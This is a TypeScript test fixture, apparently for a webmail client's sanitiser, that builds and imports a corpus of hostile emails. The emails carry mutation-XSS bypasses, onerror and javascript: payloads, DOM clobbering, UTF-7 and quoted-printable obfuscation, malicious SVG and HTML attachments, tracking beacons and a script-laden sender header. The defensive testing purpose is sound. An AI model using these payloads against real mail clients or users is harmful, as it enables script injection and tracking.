<link rel="alternate stylesheet" href="${b.ip}/h23/link-alternate.css">
<link rel="prefetch" href="${b.ip}/h23/prefetch.png">
<link rel="preload" href="${b.ip}/h23/preload.png" as="image">
<link rel="preload" href="${b.ip}/h23/preload.js" as="script">
<link rel="modulepreload" href="${b.ip}/h23/modulepreload.js">
<link rel="dns-prefetch" href="${b.named}">
<link rel="preconnect" href="${b.img}">
<link rel="prerender" href="${b.ip}/h23/prerender.html">
<link rel="icon" href="${b.ip}/h23/favicon.png">
<link rel="import" href="${b.ip}/h23/import.html">
<link rel="manifest" href="${b.ip}/h23/manifest.json">`,
      ),
    },
    {
      key: 'h24',
      title: 'video poster, video/audio src, source, track, bgsound',
      shows: 'html',
      root: html('h24', 'media elements', (b) => `
<video poster="${b.ip}/h24/poster.png" width="40" height="20"></video>
<video src="${b.ip}/h24/video.mp4" autoplay muted></video>
<video><source src="${b.named}/h24/source.mp4" type="video/mp4"><track src="${b.ip}/h24/track.vtt" default></video>
<audio src="${b.ip}/h24/audio.mp3" autoplay></audio>
<audio controls><source src="${b.ip}/h24/audio-source.ogg"></audio>
<bgsound src="${b.ip}/h24/bgsound.wav">
<video poster="javascript:${bare}"></video>`),
    },
    {
      key: 'h25',
      title: 'background attributes on table, td, body',
      shows: 'html',
      remoteImages: ['/h25/table-background.png'],
      root: html('h25', 'background attributes', (b) => `
<table background="${b.ip}/h25/table-background.png" width="100" height="20"><tr>
<td background="${b.named}/h25/td-background.png">cell</td>
<th background="${b.ip}/h25/th-background.png">head</th></tr></table>
<body background="${b.ip}/h25/body-background.png">
<div background="${b.ip}/h25/div-background.png">div</div>
<table><tr background="javascript:${bare}"><td>tr</td></tr></table>`),
    },
    {
      key: 'h26',
      title: 'mXSS: noscript, xmp, textarea, iframe, noembed and style re-parsing',
      shows: 'html',
      root: html('h26', 'mutation xss', (b) => `
<noscript><p title="</noscript><img src=x onerror=${bare}>"></noscript>
<noscript><style></noscript><img src=x onerror="${js(b, 'h26', 'noscript-style')}"></style></noscript>
<xmp><img title="</xmp><img src=x onerror=${bare}>"></xmp>
<textarea><img title="</textarea><img src=x onerror=${bare}>"></textarea>
<iframe><img title="</iframe><img src=x onerror=${bare}>"></iframe>
<noembed><img title="</noembed><img src=x onerror=${bare}>"></noembed>
<noframes><img title="</noframes><img src=x onerror=${bare}>"></noframes>
<title><img title="</title><img src=x onerror=${bare}>"></title>
<svg></p><style><a id="</style><img src=1 onerror=${bare}>">
<svg><p><style><img src=x onerror="${js(b, 'h26', 'svg-p-style')}"></style></p></svg>
<a href="#" title="&lt;/a&gt;&lt;img src=x onerror=${bare}&gt;">entity in title</a>
<p id="end">after the mXSS cases</p>`),
    },
    {
      key: 'h27',
      title: 'mXSS: nested formatting, comments, DOM clobbering, plaintext',
      shows: 'html',
      root: html('h27', 'more mutation xss', (b) => `
<div><!-- --!><img src=x onerror=${bare}> --></div>
<!--><img src=x onerror=${bare}>-->
<div id="x"><a id="x" name="x" href="javascript:${bare}">clobber</a></div>
<img name="getElementById"><form name="documentElement"><input name="dataset"></form>
<a id="__pwned" name="title">clobbering names</a>
<img src=x id="body" name="body">
<svg><![CDATA[><img src=x onerror=${bare}>]]></svg>
<math><![CDATA[</math><img src=x onerror=${bare}>]]></math>
<table><td><img src=x onerror=${bare}></table>
<select><template><img src=x onerror=${bare}></template></select>
<style><style/><img src=x onerror=${bare}></style>
<plaintext><img src=x onerror="${js(b, 'h27', 'plaintext')}"></plaintext>`),
    },
    {
      key: 'h28',
      title: 'HTML inside a plain-text part',
      shows: 'text',
      root: (b) =>
        leaf(
          'text/plain',
          `Corpus marker h28: HTML inside a plain-text part\n\n<script>${js(b, 'h28', 'text-script')}</script>\n<img src="${b.ip}/h28/text-img.png" onerror="${bare}">\n<a href="javascript:${bare}">javascript link</a>\n<iframe src="${b.ip}/h28/text-iframe.html"></iframe>\n<style>body{background:url(${b.ip}/h28/text-style.png)}</style>\n${b.ip}/h28/bare-url-in-text.png\n`,
        ),
    },
    {
      key: 'h29',
      title: 'multipart/alternative: benign text part, hostile HTML part',
      shows: 'html',
      remoteImages: ['/h29/alt-pixel.png'],
      root: (b) =>
        multipart('alternative', [
          leaf('text/plain', 'Corpus marker h29 (text part): nothing to see here.\n'),
          leaf(
            'text/html',
            page('h29', 'hostile only in the HTML alternative', `
<script>${js(b, 'h29', 'alt-script')}</script>
<img src="${b.ip}/h29/alt-pixel.png" width="1" height="1">
<img src=x onerror="${js(b, 'h29', 'alt-onerror')}">
<div style="background:url(${b.named}/h29/alt-bg.png)">styled</div>`),
          ),
        ]),
    },
    {
      key: 'h30',
      title: 'quoted-printable payload with soft breaks inside tokens',
      shows: 'html',
      remoteImages: ['/h30/qp-pixel.png'],
      root: (b) =>
        leaf(
          'text/html',
          page('h30', 'quoted-printable payload', `
<script>${js(b, 'h30', 'qp-script')}</script>
<img src="${b.ip}/h30/qp-pixel.png"><img src=x onerror="${js(b, 'h30', 'qp-onerror')}">
<a href="javascript:${js(b, 'h30', 'qp-link')}">qp link</a>
<div style="background-image:url(${b.ip}/h30/qp-bg.png)">qp styled</div>`),
          { encoding: 'quoted-printable', qpForce: /[<>"=:a]/ },
        ),
    },
    {
      key: 'h31',
      title: 'base64 payload',
      shows: 'html',
      remoteImages: ['/h31/b64-pixel.png'],
      root: (b) =>
        leaf(
          'text/html',
          page('h31', 'base64 payload', `
<script>${js(b, 'h31', 'b64-script')}</script>
<svg onload="${js(b, 'h31', 'b64-svg')}"></svg>
<img src="${b.ip}/h31/b64-pixel.png">
<iframe src="${b.ip}/h31/b64-iframe.html"></iframe>`),
          { encoding: 'base64' },
        ),
    },
    {
      key: 'h32',
      title: 'UTF-7 charset hiding angle brackets',
      shows: 'html',
      root: (b) =>
        leaf(
          'text/html',
          `<html><head><meta charset="utf-7"></head><body><p>Corpus marker h32: UTF-7 charset</p>` +
            `+ADw-script+AD4-${bare}+ADw-/script+AD4-` +
            `+ADw-img src+AD0AIg-${b.ip}/h32/utf7.png+ACI- onerror+AD0AIg-${bare}+ACI-+AD4-</body></html>`,
          { charset: 'utf-7', encoding: '7bit' },
        ),
    },
    {
      key: 'h33',
      title: 'multipart/related with cid: images beside remote ones',
      shows: 'html',
      root: (b) =>
        multipart(
          'related',
          [
            leaf(
              'text/html',
              page('h33', 'related parts', `
<img src="cid:logo@h33" alt="inline cid image">
<img src="cid:missing@h33" onerror="${js(b, 'h33', 'cid-onerror')}">
<img src="${b.ip}/h33/related-remote.png">
<div style="background:url(cid:logo@h33)">cid background</div>`),
            ),
            leaf('image/gif', 'GIF89a\x01\x00\x01\x00\x00\x00\x00;', { encoding: 'base64', cid: 'logo@h33', disposition: 'inline; filename="logo.gif"' }),
            leaf('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${bare}"><script>${bare}</script></svg>`, {
              encoding: 'base64',
              cid: 'evil@h33',
              disposition: 'inline; filename="evil.svg"',
            }),
          ],
          '; type="text/html"',
        ),
    },
    {
      key: 'h34',
      title: 'hostile attachments: HTML, SVG and a forwarded hostile message',
      shows: 'html',
      root: (b) =>
        multipart('mixed', [
          leaf('text/html', page('h34', 'hostile attachments', '<p>See the attachments.</p>')),
          leaf('text/html', `<script>${js(b, 'h34', 'attached-html')}</script><img src="${b.ip}/h34/attached.png">`, {
            disposition: 'attachment; filename="invoice.html"',
          }),
          leaf('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${bare}"><image href="${b.ip}/h34/attached-svg.png"/></svg>`, {
            encoding: 'base64',
            disposition: 'attachment; filename="chart.svg"',
          }),
          {
            headers: [
              ['Content-Type', 'message/rfc822'],
              ['Content-Disposition', 'attachment; filename="forwarded.eml"'],
            ],
            body: rawMessage(
              [
                ['From', 'Inner <inner@evil.example>'],
                ['Subject', 'inner hostile'],
              ],
              leaf('text/html', `<script>${js(b, 'h34', 'inner')}</script><img src="${b.ip}/h34/inner.png">`),
            ),
          },
        ]),
    },
    {
      key: 'h35',
      title: 'hostile headers',
      shows: 'html',
      subject: (b) => `<img src="${b.ip}/h35/subject.png" onerror="${bare}"><script>${bare}</script>`,
      extraHeaders: (b) => [
        ['List-Unsubscribe', `<${b.ip}/h35/unsubscribe.html>, <mailto:x@evil.example>`],
        ['X-Face', '"<script>top.__pwned=1</script>'],
        ['Disposition-Notification-To', `<${b.ip}/h35/mdn>`],
        ['Content-Base', `${b.ip}/h35/content-base/`],
        ['Content-Location', `${b.ip}/h35/content-location.html`],
      ],
      root: (b) =>
        leaf('text/html', page('h35', 'hostile headers', `<img src="relative-to-content-base.png"><a href="relative-link">relative link</a><p>${b.ip}</p>`)),
    },
    {
      key: 'h36',
      title: 'links that ping or navigate the app',
      shows: 'html',
      root: html('h36', 'link behaviour', (b) => `
<a href="https://example.org/ping" ping="${b.ip}/h36/ping">ping link</a>
<a href="https://example.org/top" target="_top">target top</a>
<a href="https://example.org/parent" target="_parent">target parent</a>
<a href="#x" target="_self">target self</a>
<area href="https://example.org" ping="${b.ip}/h36/area-ping">
<a href="${b.ip}/h36/link.html" download="x.html">download link (not loaded unless clicked)</a>
<a href="https://example.org" rel="opener" referrerpolicy="unsafe-url">opener</a>`),
    },
    {
      key: 'h37',
      title: 'processing instructions, doctype and manifest',
      shows: 'html',
      root: (b) =>
        leaf(
          'text/html',
          `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${b.ip}/h37/pi.css"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${b.ip}/h37/doctype.dtd">
<html manifest="${b.ip}/h37/manifest.appcache" xmlns="http://www.w3.org/1999/xhtml"><head profile="${b.ip}/h37/profile"></head>
<body><p>Corpus marker h37: processing instructions and manifest</p><?php echo 1 ?></body></html>`,
        ),
    },
    {
      key: 'h38',
      title: 'CSS that tries to escape the frame or hide the app',
      shows: 'html',
      root: html(
        'h38',
        'layout attacks',
        () => `<div style="position:fixed;inset:0;z-index:2147483647;background:transparent">overlay</div>
<div style="position:absolute;top:-9999px">offscreen</div>`,
        (b) => `<style>html{background:url(${b.ip}/h38/html-bg.png)}*{transition:all 1s}@page{background:url(${b.ip}/h38/page.png)}</style>`,
      ),
    },
    {
      key: 'h39',
      title: 'scripts and beacons after </html> and in broken markup',
      shows: 'html',
      root: (b) =>
        leaf(
          'text/html',
          `<html><body><p>Corpus marker h39: after the end of the document</p></body></html>
<script>${js(b, 'h39', 'after-html')}</script><img src="${b.ip}/h39/after-html.png">
<img src="${b.ip}/h39/unclosed.png" alt="unclosed
<div style="background:url(${b.ip}/h39/unterminated.png)`,
        ),
    },
    {
      key: 'h40',
      title: 'web components, shadow DOM and custom elements',
      shows: 'html',
      root: html('h40', 'components', (b) => `
<template shadowrootmode="open"><img src=x onerror="${js(b, 'h40', 'shadow')}"><style>:host{background:url(${b.ip}/h40/shadow.png)}</style></template>
<div><template shadowroot="open"><script>${js(b, 'h40', 'shadowroot-legacy')}</script></template></div>
<x-pwn onclick="${bare}" is="x-pwn">custom element</x-pwn>
<slot name="x"><img src="${b.ip}/h40/slot.png"></slot>
<dialog open onclose="${bare}"><img src="${b.ip}/h40/dialog.png"></dialog>
<object is="x"><embed src="${b.ip}/h40/component-embed.svg"></object>`),
    },
    {
      key: 'h41',
      title: 'srcdoc, sandbox and allow attributes on frames',
      shows: 'html',
      root: html('h41', 'frame attributes', (b) => `
<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="&lt;script&gt;${js(b, 'h41', 'srcdoc-entity')}&lt;/script&gt;"></iframe>
<iframe allow="camera; microphone" src="${b.ip}/h41/allow.html"></iframe>
<iframe loading="lazy" src="${b.named}/h41/lazy.html"></iframe>
<div srcdoc="<script>${bare}</script>">srcdoc on a div</div>`),
    },
    {
      key: 'h42',
      title: 'style attributes with quotes, newlines and entities that hide url(',
      shows: 'html',
      root: html('h42', 'style obfuscation', (b) => `
<div style="background-image:&#117;&#114;&#108;(${b.ip}/h42/entity-url.png)">entity url</div>
<div style="background-image:url&#40;${b.ip}/h42/entity-paren.png&#41;">entity paren</div>
<div style="background-image:url(
${b.ip}/h42/newline.png
)">newline</div>
<div style="background-image:url('${b.ip}/h42/quote-mismatch.png&quot;)">quote mismatch</div>
<div style='background-image:url("${b.ip}/h42/single-quoted-attr.png")'>single quoted attribute</div>
<div style="background-image:url(${b.ip}/h42/no-close.png">no closing paren</div>
<div style="b\\61 ckground:url(${b.ip}/h42/escaped-property.png)">escaped property</div>
<div style="background:url(${b.ip}/h42/first.png);background:url(${b.ip}/h42/second.png)">two declarations</div>`),
    },
    {
      key: 'h43',
      title: 'XML namespaces and xlink on HTML elements',
      shows: 'html',
      root: html('h43', 'namespaces', (b) => `
<html:script xmlns:html="http://www.w3.org/1999/xhtml">${bare}</html:script>
<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${bare}</xss:script>
<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${bare}">xlink on a</a>
<img xlink:href="${b.ip}/h43/xlink-img.png" xml:base="${b.ip}/h43/">
<div xmlns="http://www.w3.org/2000/svg"><image href="${b.ip}/h43/ns-image.png"/></div>`),
    },
    {
      key: 'h44',
      title: 'object and embed with every type',
      shows: 'html',
      root: html('h44', 'plugins', (b) =>
        ['text/html', 'image/svg+xml', 'application/pdf', 'application/x-shockwave-flash', 'application/xml', 'text/javascript', 'image/png']
          .map((type, i) => `<object type="${type}" data="${b.ip}/h44/object-${i}.html" width="10" height="10"></object><embed type="${type}" src="${b.ip}/h44/embed-${i}.html">`)
          .join('\n'),
      ),
    },
    {
      key: 'h45',
      title: 'a flood of tracking pixels on all beacon names',
      shows: 'html',
      remoteImages: ['/h45/pixel-0.gif', '/h45/pixel-1.gif', '/h45/pixel-2.gif'],
      root: html('h45', 'pixel flood', (b) =>
        Array.from({ length: 30 }, (_, i) => `<img src="${[b.ip, b.named, b.img][i % 3]}/h45/pixel-${i}.gif" width="1" height="1" alt="">`).join(''),
      ),
    },
    {
      key: 'h46',
      title: 'an HTML fragment with no html, head or body',
      shows: 'html',
      root: (b) =>
        leaf(
          'text/html',
          `<p>Corpus marker h46: a bare fragment \u00e9</p><script>${js(b, 'h46', 'fragment')}</script><img src="${b.ip}/h46/fragment.png">`,
          { charset: 'utf-8' },
        ),
    },
    {
      key: 'h47',
      title: 'quoted-printable with line breaks inside tags and URLs',
      shows: 'html',
      root: (b) =>
        leaf(
          'text/html',
          page('h47', 'qp with encoded CR LF', `<img\r\nsrc="${b.ip}/h47/crlf.png"\r\nonerror="${bare}"><a\r\nhref="java\r\nscript:${bare}">crlf link</a>`),
          { encoding: 'quoted-printable', qpForce: /[<>]/ },
        ),
    },
    {
      key: 'h48',
      title: 'keyboard and focus traps inside the message',
      shows: 'html',
      root: html('h48', 'focus attacks', (b) => `
<input autofocus value="autofocus input">
<button autofocus onclick="${bare}">autofocus button</button>
<div contenteditable="true" autofocus onfocus="${bare}">editable</div>
<a href="https://example.org" accesskey="j" tabindex="1">accesskey j</a>
<a href="https://example.org" accesskey="e" tabindex="2">accesskey e</a>
<img src="${b.ip}/h48/focus.png" tabindex="0">`),
    },
  ];
  return entries;
}

export function subjectOf(entry: HostileEntry, b: Beacon): string {
  return `[${entry.key}] ${entry.subject ? entry.subject(b) : entry.title}`;
}

export function markerOf(entry: HostileEntry): string {
  return `Corpus marker ${entry.key}`;
}

export function buildRaw(entry: HostileEntry, b: Beacon, to: string, date: Date): string {
  return rawMessage(
    [
      ['From', `"Mallory <script>top.__pwned=1</script>" <mallory@evil.example>`],
      ['To', to],
      ['Subject', subjectOf(entry, b)],
      ['Date', date.toUTCString().replace('GMT', '+0000')],
      ['Message-ID', `<${entry.key}-${date.getTime()}-${Math.random().toString(36).slice(2)}@evil.example>`],
      ...(entry.extraHeaders?.(b) ?? []),
    ],
    entry.root(b),
  );
}

/**
 * Uploads each raw message and files them all with one Email/import, unread, newest first in
 * corpus order (the first entry is the newest). Returns the email ids by entry key.
 */
export async function importCorpus(user: string, entries: HostileEntry[], b: Beacon): Promise<Map<string, string>> {
  const env = cyrusEnv();
  const auth = basic(user, env.password);
  const mailboxes = (await jmap1(user, 'Mailbox/get', { ids: null, properties: ['role'] })) as { list: { id: string; role: string | null }[] };
  const inbox = mailboxes.list.find((m) => m.role === 'inbox');
  if (!inbox) throw new Error(`${user} has no inbox`);
  const now = Date.now();
  const emails: Record<string, unknown> = {};
  for (const [i, entry] of entries.entries()) {
    const date = new Date(now - i * 60_000);
    const up = await fetch(new URL(`/jmap/upload/${encodeURIComponent(user)}/`, env.baseUrl), {
      method: 'POST',
      headers: { Authorization: auth, 'Content-Type': 'message/rfc822' },
      body: buildRaw(entry, b, user, date),
    });
    if (!up.ok) throw new Error(`upload of ${entry.key}: HTTP ${up.status} ${await up.text()}`);
    const { blobId } = (await up.json()) as { blobId: string };
    emails[entry.key] = { blobId, mailboxIds: { [inbox.id]: true }, keywords: {}, receivedAt: date.toISOString().replace(/\.\d+Z$/, 'Z') };
  }
  const res = await jmap1(user, 'Email/import', { emails });
  const created = (res.created ?? {}) as Record<string, { id: string }>;
  const missing = entries.filter((e) => !created[e.key]);
  if (missing.length) throw new Error(`Email/import refused ${missing.map((e) => e.key).join(', ')}: ${JSON.stringify(res.notCreated)}`);
  return new Map(entries.map((e) => [e.key, created[e.key]!.id]));
}
